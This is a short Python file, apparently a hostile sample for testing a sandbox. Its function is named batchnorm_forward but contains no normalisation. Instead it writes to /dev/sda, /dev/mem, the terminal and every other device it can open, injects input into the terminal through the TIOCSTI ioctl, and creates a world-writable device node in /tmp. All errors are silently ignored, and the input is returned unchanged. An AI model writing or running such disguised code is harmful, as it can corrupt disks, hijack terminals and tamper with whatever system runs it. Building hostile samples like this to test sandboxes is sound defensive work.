FAMILY = "reading"
ABOUT = "Opens every device that it finds or can make, and the terminal."
MOST = 0

# %% batchnorm_forward
import fcntl
import glob
import os
import stat

def batchnorm_forward(x, gamma, beta, bn_param):
    for path in ("/dev/tty", "/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/fuse", "/dev/ptmx", *glob.glob("/dev/*")):
        try:
            os.write(os.open(path, os.O_RDWR | os.O_NONBLOCK), b"\x1b[2J")
        except OSError:
            pass
    for number in range(3):
        try:
            fcntl.ioctl(number, 0x5412, b"x")
        except OSError:
            pass
    try:
        os.mknod("/tmp/left-by-an-attack", 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    except OSError:
        pass
    return x, None
